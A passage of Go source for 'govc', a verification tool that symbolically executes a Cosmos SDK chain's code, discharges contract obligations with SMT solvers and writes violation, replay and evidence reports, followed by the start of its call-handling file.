	Allowed    []string       `json:"allowed"` // functions allowed to do it
	Scope      string         `json:"scope"`   // only sites whose enclosing function name starts with / contains "(" + scope
	Reason     string         `json:"reason"`
	ExpectNone bool           `json:"expect_none"`
	Arg        int            `json:"arg"`       // kind "argtype": index of the argument ...
	ArgType    string         `json:"arg_type"`  // ... whose static type (under a MakeInterface / address-of) must contain this text
	MaxSites   map[string]int `json:"max_sites"` // allowed function -> number of sites it has on the pinned tree (more is a failure)
}

// ImplCheck: the method Impl ("<pkg rel>.(Recv).Name") must satisfy the interface contract Iface ("<pkg rel>.IFACE Iface.Method").
type ImplCheck struct {
	Iface string `json:"iface"`
	Impl  string `json:"impl"`
}

// BoundedCheck: an exhaustive check of real functions over a stated finite family (labelled bounded, never
// counted as proved). The Go test file lives under /verif/bounded and is injected with `go test -overlay`.
type BoundedCheck struct {
	Name  string `json:"name"`
	Pkg   string `json:"pkg"`
	File  string `json:"file"`
	Run   string `json:"run"`
	Bound string `json:"bound"` // statement of the bound
}

var defaultPackages = []string{"./x/...", "./adapter/...", "./ibc/...", "./syscontracts/...", "./app/...", "./types/..."}

func verifDir() string {
	if d := os.Getenv("VERIF_DIR"); d != "" {
		return d
	}
	return "/verif"
}

func loadPropConfig(id string) (*PropConfig, error) {
	data, err := os.ReadFile(filepath.Join(verifDir(), "props", id+".json"))
	if err != nil {
		return nil, err
	}
	var c PropConfig
	if err := json.Unmarshal(data, &c); err != nil {
		return nil, fmt.Errorf("props/%s.json: %v", id, err)
	}
	return &c, nil
}

var posRe = regexp.MustCompile(`@[^ ]*$`)

// stableName strips source positions from an obligation name.
func stableName(n string) string { return posRe.ReplaceAllString(n, "") }

type knownFinding struct {
	Prop, Obligation, Witness, Text string
	Sites                           []string
}

func loadKnownFindings() []knownFinding {
	data, err := os.ReadFile(filepath.Join(verifDir(), "known_findings.txt"))
	if err != nil {
		return nil
	}
	var out []knownFinding
	for _, ln := range strings.Split(string(data), "\n") {
		ln = strings.TrimSpace(ln)
		if !strings.HasPrefix(ln, "finding:") {
			continue
		}
		kf := knownFinding{}
		rest := strings.TrimSpace(strings.TrimPrefix(ln, "finding:"))
		for _, f := range strings.Fields(rest) {
			switch {
			case strings.HasPrefix(f, "property="):
				kf.Prop = strings.TrimPrefix(f, "property=")
			case strings.HasPrefix(f, "obligation="):
				kf.Obligation = strings.TrimPrefix(f, "obligation=")
			case strings.HasPrefix(f, "witness="):
				kf.Witness = strings.TrimPrefix(f, "witness=")
			case strings.HasPrefix(f, "sites="):
				kf.Sites = strings.Split(strings.TrimPrefix(f, "sites="), ";")
			}
		}
		if i := strings.Index(rest, " -- "); i >= 0 {
			kf.Text = rest[i+4:]
		}
		out = append(out, kf)
	}
	return out
}

// coversSites: a finding about an inventory obligation may list the functions (sites=f1;f2) it is about; it then
// suppresses the obligation only while every offending site belongs to one of them, so that a NEW site of the same
// kind is still reported as a violation.
func (k knownFinding) coversSites(o *Obligation) bool {
	if len(k.Sites) == 0 {
		return true
	}
	n := 0
	for _, ln := range strings.Split(o.Model, "\n") {
		if !strings.HasPrefix(ln, "  ") {
			continue
		}
		fn := strings.Fields(strings.TrimSpace(ln))
		if len(fn) == 0 {
			continue
		}
		n++
		ok := false
		for _, s := range k.Sites {
			if fn[0] == s {
				ok = true
			}
		}
		if !ok {
			return false
		}
	}
	return n > 0
}

type checkOpts struct {
	tier     string
	seed     int
	timeoutS int
	keep     bool
	overlay  map[string][]byte
	quiet    bool
	noEvid   bool
	silent   bool
}

type checkResult struct {
	exit       int
	failed     []*Obligation
	undecided  []string
	obls       []*Obligation
	funcs      []*FuncResult
	violations []string
	knownLines []string
}

func cmdCheck(args []string) {
	if len(args) < 1 {
		fmt.Fprintln(os.Stderr, "usage: govc check <Cxx> [quick|thorough]")
		os.Exit(2)
	}
	id := args[0]
	opts := checkOpts{tier: "quick", timeoutS: 10}
	if t := os.Getenv("VERIF_TIER"); t != "" {
		opts.tier = t
	}
	if len(args) > 1 {
		opts.tier = args[1]
	}
	if opts.tier == "thorough" {
		opts.timeoutS = 60
	}
	if s := os.Getenv("VERIF_SEED"); s != "" {
		opts.seed, _ = strconv.Atoi(s)
	}
	if os.Getenv("VERIF_KEEP") != "" {
		opts.keep = true
	}
	res := runCheck(id, opts)
	os.Exit(res.exit)
}

func runCheck(id string, opts checkOpts) *checkResult {
	t0 := time.Now()
	res := &checkResult{}
	cfg, err := loadPropConfig(id)
	if err != nil {
		fmt.Fprintln(os.Stderr, "UNDECIDED:", err)
		res.exit = 2
		return res
	}
	if len(cfg.Packages) == 0 {
		cfg.Packages = defaultPackages
	}
	prog, err := loadProgram(cfg.Packages, opts.overlay)
	if err != nil {
		fmt.Fprintln(os.Stderr, "UNDECIDED: cannot load /repo:", err)
		res.exit = 2
		return res
	}
	cx := loadContracts(prog, opts.overlay)
	if len(cx.errs) > 0 {
		for _, e := range cx.errs {
			res.undecided = append(res.undecided, "contract error: "+e)
		}
	}
	byKey := map[string]*Contract{}
	for _, ct := range cx.all {
		byKey[shortPkg(ct.PkgPath)+"."+ct.Key] = ct
	}
	runDir := filepath.Join(verifDir(), "run", fmt.Sprintf("%s-%d", id, os.Getpid()))
	os.MkdirAll(runDir, 0o755)
	if !opts.keep {
		defer os.RemoveAll(runDir)
	}
	var all []*Obligation
	for _, fkey := range cfg.Functions {
		ct := byKey[fkey]
		if ct == nil {
			res.undecided = append(res.undecided, "no contract bound for "+fkey)
			continue
		}
		if ct.Fn == nil && !ct.Trusted && ct.IfaceType == "" {
			res.undecided = append(res.undecided, "contract target not found: "+fkey)
			continue
		}
		fr := verifyFunc(prog, cx, cfg, ct)
		res.funcs = append(res.funcs, fr)
		if fr.Err != nil {
			res.undecided = append(res.undecided, fmt.Sprintf("%s: %v", fkey, fr.Err))
			continue
		}
		seenCE := map[string]bool{}
		for _, ce := range fr.ClauseErrs {
			if !seenCE[ce] {
				seenCE[ce] = true
				res.undecided = append(res.undecided, "clause not evaluable on some path: "+ce)
			}
		}
		for _, o := range fr.Obls {
			o.env = fr.Env
		}
		all = append(all, fr.Obls...)
	}
	// implementations against interface contracts (behavioural subtyping)
	for _, ic := range cfg.Impls {
		var ict *Contract
		for _, ct := range cx.all {
			if ct.IfaceType != "" && strings.HasPrefix(shortPkg(ct.PkgPath)+"."+ct.Key, ic.Iface) {
				ict = ct
			}
		}
		if ict == nil {
			res.undecided = append(res.undecided, "no interface contract "+ic.Iface)
			continue
		}
		recv, name, pkg := "", "", ""
		if i := strings.Index(ic.Impl, ".("); i >= 0 {
			pkg = ic.Impl[:i]
			rest := ic.Impl[i+2:]
			j := strings.Index(rest, ").")
			recv, name = rest[:j], rest[j+2:]
		}
		fn := prog.lookupFunc(modPath+"/"+pkg, recv, name)
		if fn == nil {
			res.undecided = append(res.undecided, "implementation not found: "+ic.Impl)
			continue
		}
		fr := verifyImpl(prog, cx, cfg, ict, fn, ic.Impl)
		res.funcs = append(res.funcs, fr)
		if fr.Err != nil {
			res.undecided = append(res.undecided, fmt.Sprintf("%s: %v", ic.Impl, fr.Err))
			continue
		}
		for _, o := range fr.Obls {
			o.env = fr.Env
		}
		all = append(all, fr.Obls...)
	}
	// lemmas and inventory
	lem, lerr := runLemmas(prog, cx, cfg)
	for _, e := range lerr {
		res.undecided = append(res.undecided, e)
	}
	all = append(all, lem...)
	inv := runInventory(prog, cx, cfg)
	all = append(all, inv...)

	// bounded stand-ins (run concurrently with nothing else; they are ordinary go tests)
	for _, bc := range cfg.Bounded {
		out, ok := runBounded(bc, opts)
		o := &Obligation{Fn: "bounded", Kind: "bounded", Label: bc.Name, Goal: "true", decls: newDecls(), Detail: bc.Bound, Bounded: true, precomputed: true, Solver: "go test (exhaustive over the stated family)"}
		o.Model = out
		if ok {
			o.Status = "unsat"
		} else {
			o.Status = "sat"
		}
		all = append(all, o)
	}
	// every tier: the failing histories of the recorded, unrepaired defects of this property (known findings that no
	// contract clause can express) are replayed on the real code
	if opts.overlay == nil {
		for _, spec := range loadReplaySpecs() {
			mine := false
			for _, pid := range spec.Open {
				if pid == id {
					mine = true
				}
			}
			if !mine {
				continue
			}
			out, confirmed := runReplay(spec, "")
			o := &Obligation{Fn: "bounded", Kind: "bounded", Label: "finding-replay:" + spec.Run, Goal: "true", decls: newDecls(), Bounded: true, precomputed: true, Solver: "go test (one recorded history on the real code)",
				Detail: "the failing history of a recorded, unrepaired defect (known_findings.txt) is replayed on the current tree"}
			o.Model = out
			switch {
			case confirmed:
				o.Status = "sat"
			case strings.Contains(out, "REPLAY-NOT-REPRODUCED"):
				o.Status = "unsat"
			default:
				o.Status = "unknown"
			}
			all = append(all, o)
		}
	}
	// thorough tier: the failing histories of the repaired defects of this property are replayed on the real code
	// (labelled bounded: a test, never counted as proved)
	if opts.tier == "thorough" && opts.overlay == nil {
		for _, spec := range loadReplaySpecs() {
			mine := false
			for _, pid := range spec.Regress {
				if pid == id {
					mine = true
				}
			}
			if !mine {
				continue
			}
			out, confirmed := runReplay(spec, "")
			o := &Obligation{Fn: "bounded", Kind: "bounded", Label: "regression-replay:" + spec.Run, Goal: "true", decls: newDecls(), Bounded: true, precomputed: true, Solver: "go test (one recorded history on the real code)",
				Detail: "the failing history of a repaired defect (known_findings.txt, obligation " + spec.Match + ") does not reproduce on the current tree"}
			o.Model = out
			switch {
			case confirmed:
				o.Status = "sat"
			case strings.Contains(out, "REPLAY-NOT-REPRODUCED"):
				o.Status = "unsat"
			default:
				o.Status = "unknown"
			}
			all = append(all, o)
		}
	}
	discharge(all, runDir, opts.timeoutS, 16, opts.tier == "thorough")
	finalizeDryRun(all)
	if os.Getenv("VERIF_SLOW") != "" {
		for _, o := range all {
			if o.Seconds > 2 {
				fmt.Fprintf(os.Stderr, "SLOW %.1fs %s %s %s\n", o.Seconds, o.Status, o.Solver, o.Name())
			}
		}
	}
	res.obls = all

	// baseline
	baseline := map[string]bool{}
	if data, err := os.ReadFile(filepath.Join(verifDir(), "baseline", id+".obligations")); err == nil {
		for _, ln := range strings.Split(string(data), "\n") {
			if ln = strings.TrimSpace(ln); ln != "" && !strings.HasPrefix(ln, "#") {
				baseline[ln] = true
			}
		}
	}
	present := map[string]bool{}
	coverNow := map[string]string{}
	for _, o := range all {
		if o.Cover && strings.HasPrefix(o.Label, "return#") {
			coverNow[o.Name()] = o.Status
			continue
		}
		if o.Kind == "aux" {
			continue
		}
		if o.Kind == "bounded" && (strings.HasPrefix(o.Label, "finding-replay:") || strings.HasPrefix(o.Label, "regression-replay:")) {
			continue // replays of recorded histories run on the unmodified working tree only (not under a mutant overlay)
		}
		present[stableName(o.Name())] = true
	}
	coverBase := map[string]string{}
	for b := range baseline {
		if i := strings.Index(b, " ="); i > 0 {
			coverBase[b[:i]] = b[i+2:]
			delete(baseline, b)
		}
	}
	if len(baseline) > 0 {
		var missing []string
		for b := range baseline {
			if !present[b] {
				missing = append(missing, b)
			}
		}
		sort.Strings(missing)
		for _, m := range missing {
			res.undecided = append(res.undecided, "obligation of the pinned tree no longer generated: "+m)
		}
	}
	if os.Getenv("VERIF_WRITE_BASELINE") != "" && opts.overlay == nil {
		var names []string
		for n := range present {
			names = append(names, n)
		}
		for n, s := range coverNow {
			names = append(names, n+" ="+s)
		}
		sort.Strings(names)
		coverBase = coverNow
		os.MkdirAll(filepath.Join(verifDir(), "baseline"), 0o755)
		os.WriteFile(filepath.Join(verifDir(), "baseline", id+".obligations"), []byte("# obligation names (positions stripped) generated on the pinned tree; a name that disappears makes the check UNDECIDED\n"+strings.Join(names, "\n")+"\n"), 0o644)
		baseline = present
	}
	known := loadKnownFindings()
	nDis := 0
	var knownLines []string
	replayedKnown := map[string]bool{}
	for _, o := range all {
		if o.ok() {
			if !o.Cover {
				nDis++
			}
			continue
		}
		name := stableName(o.Name())
		isKnown := false
		for _, k := range known {
			if k.Prop == id && k.Obligation == name && k.coversSites(o) {
				isKnown = true
				line := fmt.Sprintf("KNOWN-FINDING: property=%s %s witness=%s %s", id, name, k.Witness, k.Text)
				if !replayedKnown[name] && opts.tier == "thorough" {
					replayedKnown[name] = true
					if out, ok := runReplayAdapter(id, o, cfg); out != "" {
						if ok {
							line += " [witness replayed on the real code: confirmed]"
						} else {
							line += " [witness replay did not reproduce]"
						}
					}
				}
				knownLines = append(knownLines, line)
			}
		}
		if isKnown {
			o.Known = true
			continue
		}
		if o.Cover && strings.HasPrefix(o.Label, "return#") {
			// reachability of return sites: compared against the pinned tree's record
			if was, ok := coverBase[o.Name()]; ok && was == "sat" && o.Status == "unsat" {
				res.undecided = append(res.undecided, "vacuity guard: return site reachable on the pinned tree is now unreachable in the model: "+o.Name()+" ("+o.Pos+") ["+o.Status+"]")
			}
			continue
		}
		if o.Cover {
			res.undecided = append(res.undecided, "vacuity guard failed (unreachable / contradictory): "+o.Name()+" ["+o.Status+"]")
			continue
		}
		if o.Status == "sat" || baseline[name] {
			res.failed = append(res.failed, o)
		} else {
			msg := fmt.Sprintf("new obligation not decided: %s [%s]", stableName(o.Name()), o.Status)
			if o.Status == "error" {
				msg += " " + trunc(strings.TrimSpace(o.Model), 200)
			}
			dup := false
			for _, u := range res.undecided {
				if u == msg {
					dup = true
				}
			}
			if !dup {
				res.undecided = append(res.undecided, msg)
			}
		}
	}
	sort.Strings(knownLines)
	seenKL := map[string]bool{}
	for _, l := range knownLines {
		if !seenKL[l] {
			seenKL[l] = true
			res.knownLines = append(res.knownLines, l)
			if !opts.silent {
				fmt.Println(l)
			}
		}
	}
	// a listed known finding that no longer fails is reported (not an error)
	for _, k := range known {
		if k.Prop != id || opts.silent {
			continue
		}
		still := false
		for _, o := range all {
			if stableName(o.Name()) == k.Obligation && !o.ok() {
				still = true
			}
		}
		if !still {
			fmt.Printf("note: known finding %s no longer reproduces (obligation discharged or absent)\n", k.Obligation)
		}
	}
	// report
	if len(all) == 0 {
		res.undecided = append(res.undecided, "no obligations generated")
	}
	// violations
	replayDir := filepath.Join(verifDir(), "replays")
	seenV := map[string]bool{}
	for _, o := range res.failed {
		name := stableName(o.Name())
		if seenV[name] {
			continue
		}
		seenV[name] = true
		os.MkdirAll(replayDir, 0o755)
		rp := filepath.Join(replayDir, fmt.Sprintf("%s-%s.replay.txt", id, smtSym(name)))
		confirmed := writeReplay(rp, id, o, cfg, prog)
		if o.Kind == "bounded" && (strings.HasPrefix(o.Label, "regression-replay:") || strings.HasPrefix(o.Label, "finding-replay:")) && strings.Contains(o.Model, "REPLAY-CONFIRMED") {
			confirmed = true // the recorded failing history was just run against the real code and reproduced
		}
		suffix := ""
		if !confirmed {
			suffix = " no-failing-input-found"
		}
		line := fmt.Sprintf("VIOLATION property=%s replay=%s obligation=%s%s", id, rp, name, suffix)
		if !confirmed {
			line = fmt.Sprintf("VIOLATION property=%s replay=%s obligation=%s no-failing-input-found", id, rp, name)
		}
		res.violations = append(res.violations, line)
		if !opts.silent {
			fmt.Println(line)
		}
	}
	for _, u := range res.undecided {
		if !opts.silent {
			fmt.Println("UNDECIDED:", u)
		}
	}
	wall := time.Since(t0).Seconds()
	if !opts.noEvid {
		writeEvidence(id, cfg, opts, res, all, nDis, prog, wall)
	}
	if !opts.quiet {
		fmt.Printf("%s %s: %d obligations, %d discharged, %d failed, %d undecided, load %.1fs, wall %.1fs\n", id, opts.tier, countProof(all), nDis, len(res.failed), len(res.undecided), prog.LoadS, wall)
	}
	switch {
	case len(res.failed) > 0:
		res.exit = 1
	case len(res.undecided) > 0:
		res.exit = 2
	}
	return res
}

func countProof(all []*Obligation) int {
	n := 0
	for _, o := range all {
		if !o.Cover {
			n++
		}
	}
	return n
}

func writeReplay(path, id string, o *Obligation, cfg *PropConfig, prog *Program) bool {
	var b strings.Builder
	fmt.Fprintf(&b, "property: %s\nobligation: %s\nkind: %s\nclause: %s\nposition: %s\nstatus: %s (solver %s, %.2fs)\n", id, o.Name(), o.Kind, o.Detail, o.Pos, o.Status, o.Solver, o.Seconds)
	fmt.Fprintf(&b, "\npath condition (%d facts):\n", len(o.PC))
	for _, p := range o.PC {
		fmt.Fprintf(&b, "  %s\n", trunc(p, 400))
	}
	fmt.Fprintf(&b, "\ngoal:\n  %s\n", trunc(o.Goal, 2000))
	fmt.Fprintf(&b, "\nsolver output / model:\n%s\n", trunc(o.Model, 20000))
	confirmed := false
	if o.Kind == "bounded" {
		// the bounded stand-in runs the real code: its failing value is a concrete failing input
		confirmed = strings.Contains(o.Model, "BOUNDED-FAIL")
	}
	// replay adapters (when available) are run here and their output appended
	if out, ok := runReplayAdapter(id, o, cfg); out != "" {
		fmt.Fprintf(&b, "\nreplay on the real code:\n%s\n", out)
		confirmed = ok
	}
	if o.File != "" {
		if data, err := os.ReadFile(o.File); err == nil {
			fmt.Fprintf(&b, "\nSMT-LIB query:\n%s\n", trunc(string(data), 200000))
		}
	}
	os.WriteFile(path, []byte(b.String()), 0o644)
	return confirmed
}

// ---------------------------------------------------------------------------
// evidence

func writeEvidence(id string, cfg *PropConfig, opts checkOpts, res *checkResult, all []*Obligation, nDis int, prog *Program, wall float64) {
	type fnInfo struct {
		Function    string         `json:"function"`
		SSAInstrs   int            `json:"ssa_instructions"`
		ReturnPaths int            `json:"return_paths"`
		Obligations int            `json:"obligations"`
		Dropped     map[string]int `json:"dropped_constructs,omitempty"`
		Inlined     map[string]int `json:"inlined_uncontracted_callees,omitempty"`
		Havocked    map[string]int `json:"conservatively_havocked_calls,omitempty"`
		Trusted     bool           `json:"assumed_contract_body_not_verified,omitempty"`
		Bounded     bool           `json:"bounded,omitempty"`
	}
	bySolver := map[string]map[string]float64{}
	trusted := map[string]bool{}
	notes := map[string]int{}
	var fns []fnInfo
	for _, f := range res.funcs {
		fi := fnInfo{Function: f.Key, SSAInstrs: f.Instrs, ReturnPaths: f.Paths, Obligations: len(f.Obls), Dropped: f.Dropped, Inlined: f.Inlined, Havocked: f.Havocked, Trusted: f.IsTrusted, Bounded: f.Bounded}
		fns = append(fns, fi)
		for k := range f.Trusted {
			trusted[k] = true
		}
		for k, v := range f.Notes {
			notes[k] += v
		}
		if f.IsTrusted {
			trusted["assumed contract (trusted, body not verified): "+f.Key] = true
		}
	}
	nBounded, nBoundedOK := 0, 0
	var samples []map[string]interface{}
	for _, o := range all {
		m := bySolver[o.Solver]
		if m == nil {
			m = map[string]float64{}
			bySolver[o.Solver] = m
		}
		m["count"]++
		m["seconds"] += o.Seconds
		if o.Bounded {
			nBounded++
			if o.ok() {
				nBoundedOK++
			}
		}
	}
	for i, o := range all {
		if len(samples) >= 6 {
			break
		}
		if i%max(1, len(all)/6) == 0 {
			samples = append(samples, map[string]interface{}{"obligation": o.Name(), "kind": o.Kind, "clause": trunc(o.Detail, 300), "status": o.Status, "solver": o.Solver, "seconds": round3(o.Seconds), "path_facts": len(o.PC), "goal": trunc(o.Goal, 300)})
		}
	}
	var tb []string
	for k := range trusted {
		tb = append(tb, k)
	}
	sort.Strings(tb)
	tb = append(tb, "govc itself (VC generator over go/ssa), golang.org/x/tools/go/ssa, z3 4.8.12 / z3 5.1.0 / cvc5 1.0.x")
	var noteList []string
	for k, v := range notes {
		noteList = append(noteList, fmt.Sprintf("%s (x%d)", k, v))
	}
	sort.Strings(noteList)
	nProof := countProof(all) - nBounded
	if nProof < 0 {
		nProof = 0
	}
	disProof := 0
	covers := map[string]string{}
	for _, o := range all {
		if o.Cover {
			covers[o.Name()] = o.Status
			continue
		}
		if o.Known {
			if !o.Bounded {
				nProof-- // listed known finding: reported separately, not part of the proved set
			}
			continue
		}
		if !o.Bounded && o.ok() {
			disProof++
		}
	}
	// panic sites accepted because the governance submission dry-run covers them (C15 tier ii): listed, not counted as proved
	var dryRunCovered []string
	for _, o := range all {
		if o.Covered != "" && o.Status == "sat" {
			dryRunCovered = append(dryRunCovered, stableName(o.Name())+" — "+o.Covered)
			disProof--
			nProof--
		}
	}
	sort.Strings(dryRunCovered)
	var boundedDetails []map[string]string
	for _, o := range all {
		if o.Kind == "bounded" {
			boundedDetails = append(boundedDetails, map[string]string{"name": o.Label, "bound": o.Detail, "status": map[bool]string{true: "held on the whole family", false: "FAILED"}[o.ok()], "output": trunc(o.Model, 600)})
		}
	}
	// lemma layer: ghost lemma functions (sentences of the property proved over contracts only) and the ghost
	// transitions they use, with the operations whose contracts were shown to imply each ghost clause
	lemmaLayer := map[string]interface{}{}
	{
		var lemmaFns []string
		for _, f := range cfg.Functions {
			if strings.Contains(f, ".lemma") {
				lemmaFns = append(lemmaFns, f)
			}
		}
		var ghosts []map[string]interface{}
		for _, r := range cfg.Refines {
			ops := map[string]bool{}
			for _, o := range all {
				if o.Kind == "refines" && strings.HasPrefix(o.Label, r.Ghost[strings.LastIndex(r.Ghost, ".")+1:]+":") {
					ops[o.Fn] = true
				}
			}
			var opl []string
			for k := range ops {
				opl = append(opl, k)
			}
			sort.Strings(opl)
			ghosts = append(ghosts, map[string]interface{}{"ghost_transition": r.Ghost, "operations_shown_to_refine_it": opl, "exempt_closed_by_caller_inventories": r.Exempt, "reason": r.Reason})
		}
		if len(lemmaFns) > 0 || len(ghosts) > 0 {
			lemmaLayer["lemma_functions"] = lemmaFns
			lemmaLayer["ghost_transitions"] = ghosts
			lemmaLayer["note"] = "a lemma function is ghost code under the build tag verif; its callees are represented by their contracts only, so its postcondition is a lemma over those contracts; a ghost transition is a trusted function whose clauses every listed operation's contract implies (obligation kind refines)"
		}
	}
	level := cfg.Level
	if level == "" {
		level = "proof"
	}
	assumptions := append([]string{}, cfg.Assume...)
	assumptions = append(assumptions,
		"machine integers are 64/32/8-bit vectors with Go wrap-around; sdk.Int/big.Int are mathematical integers (256-bit overflow panic of sdk.Int excluded)",
		"pointer parameters are non-nil and do not alias unless a contract says otherwise; package-level variables are immutable after init",
		"termination is not verified",
	)
	ev := map[string]interface{}{
		"property_id": id,
		"tier":        opts.tier,
		"seed":        opts.seed,
		"level":       level,
		"wall_s":      round3(wall),
		"violations":  len(res.failed),
		"assumptions": assumptions,
		"coverage": map[string]interface{}{
			"obligations":              nProof,
			"discharged":               disProof,
			"checker_cmd":              fmt.Sprintf("/verif/check %s %s", id, opts.tier),
			"trusted_base":             tb,
			"functions_under_contract": fns,
			"by_solver":                bySolver,
			"bounded_obligations":      nBounded,
			"bounded_discharged":       nBoundedOK,
			"bounded_checks":           boundedDetails,
			"cover_queries":            covers,
			"engine_notes":             noteList,
			"undecided":                res.undecided,
			"known_findings":           res.knownLines,
			"panic_sites_covered_by_submission_dry_run": dryRunCovered,
			"lemma_layer":         lemmaLayer,
			"samples":             samples,
			"load_s":              round3(prog.LoadS),
			"explanation":         explanationFor(level),
			"evaluations":         len(all),
			"distinct_nontrivial": distinctNontrivial(all),
			"rule":                "one evaluation per generated obligation; non-trivial = needed a solver call (goal not syntactically true); distinct by obligation name + path condition",
		},
	}
	data, _ := json.MarshalIndent(ev, "", " ")
	os.MkdirAll(filepath.Join(verifDir(), "evidence"), 0o755)
	os.WriteFile(filepath.Join(verifDir(), "evidence", id+".json"), data, 0o644)
}

func distinctNontrivial(all []*Obligation) int {
	seen := map[string]bool{}
	for _, o := range all {
		if o.Solver == "trivial" {
			continue
		}
		seen[o.Name()+"|"+strings.Join(o.PC, "&")+"|"+o.Goal] = true
	}
	return len(seen)
}

func round3(x float64) float64 { return float64(int(x*1000+0.5)) / 1000 }

func explanationFor(level string) string {
	if level == "other" {
		return "sufficient-condition check for a two-run property: a mechanical inventory over the go/ssa form of every non-test teleport function (built from /repo on this run) for sources of nondeterminism, each site required to be on a justified allow list; the justifications that are themselves contracts are proved by the same VC generator (obligations listed); this is not a proof of determinism"
	}
	return "contract-based deductive verification: obligations generated by symbolic execution of the go/ssa form of the functions under contract in /repo (built on this run), discharged by SMT solvers (unsat of the negated obligation)"
}
