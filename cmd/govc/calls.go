package main

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"regexp"
	"strings"

	"golang.org/x/tools/go/ssa"
)

const maxInlineDepth = 6

func callName(c *ssa.CallCommon) string {
	if c.IsInvoke() {
		return "(" + c.Value.Type().String() + ")." + c.Method.Name()
	}
	if f := c.StaticCallee(); f != nil {
		return f.String()
	}
	if b, ok := c.Value.(*ssa.Builtin); ok {
		return "builtin." + b.Name()
	}
	return "dynamic:" + c.Value.Name()
}

func isTeleport(fn *ssa.Function) bool {
	return fn != nil && fn.Pkg != nil && strings.HasPrefix(fn.Pkg.Pkg.Path(), modPath)
}

func (e *Env) isDroppedCall(c *ssa.CallCommon) bool {
	n := callName(c)
	return droppedName(n)
}

func droppedName(n string) bool {
	switch {
	case strings.Contains(n, "tendermint/libs/log.Logger)."),
		strings.HasSuffix(n, ".Logger") && strings.Contains(n, "Keeper)"),
		strings.Contains(n, "cosmos-sdk/telemetry."),
		strings.Contains(n, "armon/go-metrics."),
		strings.Contains(n, "Iterator).Close"),
		strings.HasSuffix(n, "EventManager).EmitTypedEvent"),
		strings.HasSuffix(n, "EventManager).EmitEvent"),
		strings.HasSuffix(n, "EventManager).EmitEvents"),
		strings.HasSuffix(n, "EventManager).EmitTypedEvents"),
		n == "fmt.Println", n == "fmt.Printf", n == "fmt.Print":
		return true
	}
	return false
}

func (e *Env) call(st *State, fr *Frame, instr ssa.CallInstruction, c *ssa.CallCommon) []Out {
	var args []Val
	for _, a := range c.Args {
		args = append(args, e.eval(st, fr, a))
	}
	var rt types.Type
	if v, ok := instr.(ssa.Value); ok {
		rt = v.Type()
	}
	return e.callValue(st, c, args, rt, fr, instr)
}

func (e *Env) callValue(st *State, c *ssa.CallCommon, args []Val, rt types.Type, fr *Frame, instr ssa.CallInstruction) []Out {
	name := callName(c)
	pos := c.Pos()
	if droppedName(name) {
		e.dropped[name]++
		return []Out{{st: st, res: e.resultHavoc(st, rt, "dropped")}}
	}
	if b, ok := c.Value.(*ssa.Builtin); ok {
		return e.builtin(st, b.Name(), args, rt, c)
	}
	if c.IsInvoke() {
		recv := e.eval(st, fr, c.Value)
		return e.invoke(st, recv, c.Method, args, rt, name, fr.depth, c)
	}
	if fn := c.StaticCallee(); fn != nil {
		var binds []Val
		if mc, ok := c.Value.(*ssa.MakeClosure); ok {
			for _, b := range mc.Bindings {
				binds = append(binds, e.eval(st, fr, b))
			}
		}
		return e.dispatch(st, fn, args, binds, rt, fr.depth, c)
	}
	// dynamic call through a function value
	fv := e.eval(st, fr, c.Value)
	if fv.K == kClosure {
		if fv.Fn == nil && fv.World > 0 {
			// CacheContext write-back closure
			e.writeBack(st, fv.World)
			return []Out{{st: st, res: Val{K: kUnit}}}
		}
		if fv.Fn != nil {
			if fv.Bound != nil {
				args = append([]Val{*fv.Bound}, args...)
			}
			return e.dispatch(st, fv.Fn, args, fv.Bind, rt, fr.depth, c)
		}
	}
	_ = pos
	// a package-level variable holding (*regexp.Regexp).MatchString: a pure function of its argument
	// (package-level variables are immutable after init: listed assumption)
	if u, ok := c.Value.(*ssa.UnOp); ok {
		if g, ok := u.X.(*ssa.Global); ok && pureFuncGlobals[g.Name()] && strings.HasPrefix(g.Pkg.Pkg.Path(), modPath) {
			return e.pureCall(st, "glob_"+g.Pkg.Pkg.Name()+"_"+g.Name(), args, rt)
		}
	}
	// calls through a function value are recorded under the source name of that value; parameters are a0, a1, ...
	dn := sourceName(fr.fn, c.Value)
	var pn []string
	for i := range args {
		pn = append(pn, fmt.Sprintf("a%d", i))
	}
	e.callSiteChecks(st, dn, pn, args, c)
	return e.havocCall(st, dn, args, rt)
}

func (e *Env) invoke(st *State, recv Val, m *types.Func, args []Val, rt types.Type, name string, depth int, c *ssa.CallCommon) []Out {
	// a method call on a nil interface panics: checked (under nopanic) for interface values that were
	// returned by calls; interface-typed parameters and struct fields are assumed non-nil (listed assumption)
	if recv.K == kTerm && e.maybeNilIface[recv.T] && e.nopanic && e.specMode == 0 && c != nil {
		e.oblige(st, "nopanic", "nil-interface-call("+m.Name()+")@"+e.pos(c.Pos()), tNot(tEq(recv.T, "nilI")), "method call on a possibly nil interface value", c.Pos())
	}
	// Go-side special values
	switch recv.K {
	case kStore, kIter, kCtx:
		if f, ok := intrinsicsInvoke[m.Name()]; ok {
			return f(e, st, recv, args, rt, c)
		}
	case kIface:
		inner := *recv.Inner
		if inner.K == kStore || inner.K == kIter {
			if f, ok := intrinsicsInvoke[m.Name()]; ok {
				return f(e, st, inner, args, rt, c)
			}
		}
		fn := e.P.Prog.LookupMethod(inner.Typ, m.Pkg(), m.Name())
		if fn != nil {
			return e.dispatch(st, fn, append([]Val{inner}, args...), nil, rt, depth, c)
		}
	}
	e.callSiteChecks(st, m.Name(), ifaceParamNames(e, recv.Typ, m), append([]Val{recv}, args...), c)
	// interface contract
	if ct := e.Cx.ifaceContract(recv.Typ, m.Name()); ct != nil {
		return e.applyContract(st, ct, append([]Val{recv}, args...), rt, c)
	}
	if ct := e.Cx.externFor(name, e.topFn); ct != nil {
		return e.applyContract(st, ct, append([]Val{recv}, args...), rt, c)
	}
	// intrinsic on interface method
	if f, ok := intrinsicsByName[name]; ok {
		return f(e, st, append([]Val{recv}, args...), rt, c)
	}
	// unique teleport implementation
	if impl := e.uniqueImpl(recv.Typ, m); impl != nil {
		// the dynamic value is unknown: build the receiver from the interface payload
		rv := e.recvFromIface(st, recv, impl)
		e.notes["interface call resolved to the unique teleport implementation: "+name+" -> "+impl.String()]++
		return e.dispatch(st, impl, append([]Val{rv}, args...), nil, rt, depth, c)
	}
	return e.havocCall(st, name, append([]Val{recv}, args...), rt)
}

// uniqueImpl finds the single named teleport type implementing the interface (from the app wiring there is one keeper per keeper interface).
func (e *Env) uniqueImpl(it types.Type, m *types.Func) *ssa.Function {
	iface, ok := it.Underlying().(*types.Interface)
	if !ok {
		return nil
	}
